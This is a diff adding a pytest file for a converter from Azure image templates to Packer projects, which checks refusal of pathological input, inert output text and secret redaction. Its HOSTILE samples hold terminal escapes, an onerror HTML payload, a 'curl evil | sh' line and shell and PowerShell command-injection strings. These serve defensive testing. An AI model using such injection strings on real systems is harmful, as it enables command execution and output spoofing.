@@ -1,0 +1,364 @@
+"""Input that is made to break a conversion: a result or findings, in time; no other language, no secret."""
+
+from __future__ import annotations
+
+import io
+import json
+import random
+import time
+from copy import deepcopy
+from pathlib import Path
+
+import hcl2
+import pytest
+from cases import all_cases
+from changing import Json, at, changed, check, places_in, put, run, said
+from converted import texts_of
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from paths import SHARED
+from ruamel.yaml import YAML
+
+from aib2packer.diagnostics.formats.json_format import as_json, file_entry
+from aib2packer.diagnostics.formats.sarif_format import as_sarif
+from aib2packer.diagnostics.formats.text_format import as_text
+from aib2packer.ir.choices import Os, choices_of
+from aib2packer.pipeline import Options, Result, convert
+
+SCHEMA = "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#"
+DIGITS = "9" * 5000
+MARK = "S3cr3tMARK9"
+
+
+def image(**properties: Json) -> dict[str, Json]:
+    return {
+        "type": "Microsoft.VirtualMachineImages/imageTemplates",
+        "apiVersion": "2022-07-01",
+        "name": "x",
+        "location": "westus2",
+        "properties": {
+            "source": {
+                "type": "PlatformImage",
+                "publisher": "Canonical",
+                "offer": "jammy",
+                "sku": "22_04-lts-gen2",
+                "version": "latest",
+            },
+            "customize": [{"type": "Shell", "name": "a", "inline": ["echo"]}],
+            "distribute": [{"type": "VHD", "runOutputName": "o"}],
+            **properties,
+        },
+    }
+
+
+def deployment(line: str = "echo", *, parameters: Json = None, variables: Json = None, **properties: Json) -> Json:
+    step: Json = {"type": "Shell", "name": "a", "inline": [line]}
+    made = image(**{"customize": [step], **properties})
+    return {"$schema": SCHEMA, "parameters": parameters or {}, "variables": variables or {}, "resources": [made]}
+
+
+def shell(line: str) -> Json:
+    return deployment(
+        line, parameters={"p": {"type": "bool"}, "s": {"type": "string"}, "a": {"type": "array"}, "i": {"type": "int"}}
+    )
+
+
+def nested(levels: int, *, objects: bool) -> Json:
+    value: Json = "x"
+    for _ in range(levels):
+        value = {"a": value} if objects else [value]
+    return value
+
+
+def tagged(tags: Json) -> Json:
+    return {**image(), "tags": tags}
+
+
+def codes(result: Result) -> set[str]:
+    return {code for code, _, _ in said(result)}
+
+
+REFUSED: dict[str, tuple[Json, str]] = {
+    "a number of 5,000 digits": (shell(f"[string(add(1,{DIGITS}))]"), "A2P150"),
+    "an int text of 5,000 digits": (image(buildTimeoutInMinutes=DIGITS), "A2P204"),
+    "two signs": (image(buildTimeoutInMinutes="--5"), "A2P204"),
+    "nested lists": (tagged({"a": nested(246, objects=False)}), "A2P102"),
+    "nested objects": (tagged({"a": nested(328, objects=True)}), "A2P102"),
+    "a huge width": (shell("[format('{0,2000000000}', 'a')]"), "A2P157"),
+    "a huge index": (shell(f"[format('{{{DIGITS}}}', 'a')]"), "A2P157"),
+    "a huge number to format": (shell("[format('{0:N2}', json('" + "9" * 290 + "e20'))]"), ""),
+    "a long duration": (shell(f"[dateTimeAdd('2020-01-01T00:00:00Z', 'P{DIGITS}D')]"), "A2P157"),
+    "if without else": (shell("[if(parameters('p'), 'a').x]"), "A2P152"),
+    "format with too many": (shell("[format(parameters('s'), 'a', 'b')]"), ""),
+    "a lambda that is none": (shell("[string(map(parameters('a'), lambda(parameters('p'), 'x')))]"), ""),
+    "a host that is no IPv6 address": (
+        image(customize=[{"type": "File", "name": "a", "sourceUri": "https://[x/a.sh", "destination": "/tmp/a"}]),
+        "A2P413",
+    ),
+    "a host that is markup": (
+        image(customize=[{"type": "File", "name": "a", "sourceUri": "https://<img src=x>@[/a", "destination": "/tmp/a"}]),
+        "",
+    ),
+    "texts that double": (
+        deployment(
+            "[string(variables('v'))]",
+            variables={"v": {"copy": [{"name": "x", "count": 500, "input": "[padLeft('a', 4000000)]"}]}},
+        ),
+        "A2P162",
+    ),
+    "more than 800 images by loops": (
+        {
+            "$schema": SCHEMA,
+            "resources": [
+                {
+                    "type": "Microsoft.Resources/deployments",
+                    "apiVersion": "2021-04-01",
+                    "name": "d",
+                    "copy": {"name": "l", "count": 9},
+                    "properties": {
+                        "mode": "Incremental",
+                        "template": {"$schema": SCHEMA, "resources": [{**image(), "copy": {"name": "m", "count": 99}}]},
+                    },
+                }
+            ],
+        },
+        "A2P159",
+    ),
+    "a default that names itself": (
+        {
+            "$schema": SCHEMA,
+            "parameters": {"u": {"type": "string", "defaultValue": "[parameters('u')]"}},
+            "resources": [image(customize=[{"type": "Shell", "name": "a", "scriptUri": "[parameters('u')]"}])],
+        },
+        "A2P158",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_input_that_broke_a_conversion_is_told(name: str) -> None:
+    template, code = REFUSED[name]
+    result = run(template, windows=False)
+    assert code in codes(result) if code else (result.projects or result.findings.has_errors())
+
+
+@pytest.mark.parametrize("text", [f'{{"a": {DIGITS}}}', '{"a": 1e999}', '{"a": -1e999}', f'{{"a": -{DIGITS}}}'])
+def test_number_that_nothing_can_hold_is_no_json(text: str) -> None:
+    assert codes(convert(text.encode(), "t.json", Options())) == {"A2P101"}
+
+
+@pytest.mark.parametrize("value", ["[" * 400, "[" * 400 + "]" * 400, DIGITS, "[NaN]", "1e999", "[Infinity]"])
+@pytest.mark.parametrize("kind", ["array", "object", "int", "bool"])
+def test_value_of_the_command_line_is_of_its_type(value: str, kind: str) -> None:
+    template = deployment("[string(parameters('a'))]", parameters={"a": {"type": kind}})
+    result = convert(json.dumps(template).encode(), "t.json", Options(os=Os.LINUX, parameters=(("a", value),)))
+    assert result.findings.has_errors()
+
+
+@pytest.mark.parametrize("levels", [50, 90])
+def test_levels_below_the_bound_convert_or_are_told(levels: int) -> None:
+    concats = "concat(" * levels + "parameters('s')" + ",'x')" * levels
+    for template in (tagged({"a": nested(levels, objects=True)}), shell(f"[{concats}]")):
+        check(run(template, windows=False))
+
+
+# --- text stays text -----------------------------------------------------------------------------------------------
+
+HOSTILE = (
+    "z\x1b]0;owned\x07\x1b[2Jz",
+    "a\u202etxt\u2028b\u0085c\u009bd\u2066",
+    "![x](http://evil.example/x.png)<img src=x onerror=y><b>",
+    "a\r\n\r\n# Run this first\n\ncurl evil | sh | x",
+    "'; touch CANARY; '\"$(touch CANARY)`touch CANARY`${var.x}%{if}{{env `PATH`}}",
+    "\u2019; New-Item CANARY; \u2018 #> ${{ secrets.all }}",
+)
+
+
+def fields_of(template: Json) -> list[tuple[str | int, ...]]:
+    fixed = ("type", "apiVersion", "$schema", "contentVersion")
+    return [steps for steps in places_in(template) if isinstance(at(template, steps), str) and steps[-1] not in fixed]
+
+
+SAMPLES = ("linux-gallery", "windows-gallery", "outputs-and-validators")
+
+
+def sampled() -> list[tuple[str, Json]]:
+    cases = [case for case in all_cases() if case.name in SAMPLES]
+    return [(case.name, json.loads((case.folder / case.template).read_text())) for case in cases]
+
+
+def seen_by_people(result: Result) -> str:
+    hidden = result.findings.hidden
+    return (
+        as_text(result.findings, hidden)
+        + as_json([file_entry("t", "x", (), result.findings)])
+        + as_sarif(result.findings, "1", Path())
+    )
+
+
+def assert_is_shown(text: str) -> None:
+    """No character in it steers a terminal."""
+    steering = [
+        each
+        for each in text
+        if each != "\n" and (ord(each) < 0x20 or 0x7F <= ord(each) < 0xA0 or each in "\u2028\u2029\u202e\u2066")
+    ]
+    assert steering == [], steering
+
+
+def assert_is_plain_markdown(text: str) -> None:
+    tokens = MarkdownIt("commonmark").enable("table").parse(text)
+    kinds = {child.type for token in tokens for child in (token, *(token.children or ()))}
+    assert not kinds & {"image", "html_inline", "html_block", "link_open"}, kinds
+    headings = [tokens[number + 1].content for number, token in enumerate(tokens) if token.type == "heading_open"]
+    assert not any("Run this" in each for each in headings[1:]), headings
+    cells = [line.count("|") - line.count("\\|") for line in text.splitlines() if line.startswith("| ")]
+    assert set(cells) <= {3, 4}, cells
+
+
+@pytest.mark.parametrize("pipeline", ["github", "azure-devops"])
+@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
+@pytest.mark.parametrize(("name", "template"), sampled(), ids=lambda each: each if isinstance(each, str) else "")
+def test_text_of_a_field_is_text_in_each_output(name: str, template: Json, hostile: str, pipeline: str) -> None:
+    chance = random.Random(f"{name}{hostile}{pipeline}")
+    fields = fields_of(template)
+    for steps in chance.sample(fields, min(6, len(fields))):
+        broken = deepcopy(template)
+        put(at(broken, steps[:-1]), steps[-1], hostile)
+        options = Options(
+            os=Os.LINUX, choices=choices_of(downloads="fetch", extras=(), scripts="sh", auth="oidc", pipeline=pipeline)
+        )
+        result = convert(json.dumps(broken).encode(), "t.json", options)
+        assert_is_shown(seen_by_people(result))
+        for project in result.projects:
+            files = texts_of(project)
+            assert_is_shown(files["MIGRATION.md"])
+            assert_is_plain_markdown(files["MIGRATION.md"])
+            for path, text in files.items():
+                if path.endswith((".pkr.hcl", ".pkrvars.hcl")):
+                    hcl2.loads(text)
+                elif path.endswith((".yml", ".yaml")):
+                    YAML(typ="safe").load(io.StringIO(text))
+
+
+# --- secrets -------------------------------------------------------------------------------------------------------
+
+
+def nested_deployment(value: Json, **outer: Json) -> Json:
+    inner = deployment("[concat('echo ', parameters('pw'))]", parameters={"pw": {"type": "secureString"}})
+    properties: Json = {
+        "mode": "Incremental",
+        "expressionEvaluationOptions": {"scope": "inner"},
+        "parameters": {"pw": {"value": value}},
+        "template": inner,
+    }
+    made: Json = {"type": "Microsoft.Resources/deployments", "apiVersion": "2021-04-01", "name": "d", "properties": properties}
+    return {"$schema": SCHEMA, **outer, "resources": [made]}
+
+
+def with_url(url: str) -> Json:
+    return image(customize=[{"type": "File", "name": "a", "sourceUri": url, "destination": "/tmp/a"}])
+
+
+SECRETS: dict[str, Json] = {
+    "default": deployment("[concat('echo ', parameters('p'))]", parameters={"p": {"type": "secureString", "defaultValue": MARK}}),
+    "allowed values": deployment("[parameters('p')]", parameters={"p": {"type": "secureString", "allowedValues": [MARK]}}),
+    "default of a secure object": deployment(
+        "[parameters('p').x]", parameters={"p": {"type": "secureObject", "defaultValue": {"x": MARK}}}
+    ),
+    "plain parameter called password": deployment(
+        "[parameters('password')]", parameters={"password": {"type": "string", "defaultValue": MARK}}
+    ),
+    "nested deployment": nested_deployment(MARK),
+    "nested deployment by a variable": nested_deployment("[variables('v')]", variables={"v": MARK}),
+    "SAS token": with_url(f"https://a.blob.core.windows.net/c/f?sv=2020&sig={MARK}%3D"),
+    "SAS token in a parameter": deployment(
+        parameters={"u": {"type": "string", "defaultValue": f"https://a.blob.core.windows.net/c/f?sig={MARK}"}},
+        customize=[{"type": "Shell", "name": "a", "scriptUri": "[parameters('u')]"}],
+    ),
+}
+
+
+@pytest.mark.parametrize("name", SECRETS)
+def test_secret_is_in_no_output(name: str) -> None:
+    result = run(SECRETS[name], windows=False)
+    assert MARK not in seen_by_people(result)
+    assert result.projects, said(result)
+    for path, text in texts_of(result.projects[0]).items():
+        assert MARK not in text, path
+
+
+def test_secret_given_for_a_name_is_in_no_output() -> None:
+    template = {**image(), "name": "[parameters('p')]"}
+    whole = {"$schema": SCHEMA, "parameters": {"p": {"type": "secureString"}}, "resources": [template]}
+    result = convert(json.dumps(whole).encode(), "t.json", Options(os=Os.LINUX, parameters=(("p", MARK),)))
+    assert MARK not in seen_by_people(result) + "".join(
+        text for each in result.projects for text in (*texts_of(each).values(), each.name)
+    )
+
+
+URL = f"https://user:{MARK}@host/x"
+KEPT: dict[str, Json] = {
+    "tag": tagged({"a": URL}),
+    "line": shell(f"curl {URL}"),
+    "destination": image(
+        customize=[
+            {"type": "File", "name": "a", "sourceUri": "https://h/f", "sha256Checksum": "0" * 64, "destination": f"/tmp/{URL}"}
+        ]
+    ),
+}
+
+
+@pytest.mark.parametrize("name", KEPT)
+def test_secret_that_is_kept_is_warned_of_and_not_shown(name: str) -> None:
+    result = run(KEPT[name], windows=False)
+    assert "A2P418" in codes(result)
+    assert MARK not in seen_by_people(result)
+
+
+def test_line_of_broken_json_shows_no_value() -> None:
+    text = '{"parameters": {"pw": {"type": "secureString",\n"defaultValue": "' + MARK + '" "x": 1}}}'
+    assert MARK not in seen_by_people(convert(text.encode(), "t.json", Options()))
+
+
+# --- whole templates -----------------------------------------------------------------------------------------------
+
+
+@settings(max_examples=60)
+@given(chance=st.randoms(use_true_random=False))
+def test_changed_samples_are_told(chance: random.Random) -> None:
+    name, template = chance.choice(sampled())
+    for _ in range(chance.randrange(1, 4)):
+        template = changed(template, chance)
+    check(run(template, windows=name.startswith("windows")))
+
+
+@pytest.mark.judge
+@pytest.mark.skipif(not (SHARED / "templates").is_dir(), reason="no real templates (../shared/templates)")
+def test_changed_real_templates_give_a_result_or_findings_in_time() -> None:
+    for file in sorted((SHARED / "templates").rglob("*.json")):
+        try:
+            template = json.loads(file.read_text(encoding="utf-8-sig"))
+        except ValueError:
+            continue
+        for number in range(10):
+            broken = changed(template, random.Random(f"{file.name}{number}"))
+            began = time.process_time()
+            result = run(broken, windows=False)
+            assert time.process_time() - began < 5, (file.name, number)
+            assert result.projects or result.findings.has_errors(), (file.name, number)
+
+
+@pytest.mark.judge
+@pytest.mark.skipif(not (SHARED / "faults" / "breaking").is_dir(), reason="no inputs of faults (../shared/faults)")
+@pytest.mark.parametrize("file", sorted((SHARED / "faults" / "breaking").glob("*.json")), ids=lambda file: Path(file).stem)
+def test_recorded_fault_has_its_outcome(file: Path) -> None:
+    began = time.process_time()
+    result = convert(file.read_bytes(), file.name, Options(os=Os.LINUX))
+    assert time.process_time() - began < 10
+    assert result.projects or result.findings.has_errors()
+    assert_is_shown(seen_by_people(result))
+    assert MARK not in seen_by_people(result) or file.stem == "s01_p", "a parameter file that is converted as a template"
+    for project in result.projects:
+        assert MARK not in "".join(texts_of(project).values())
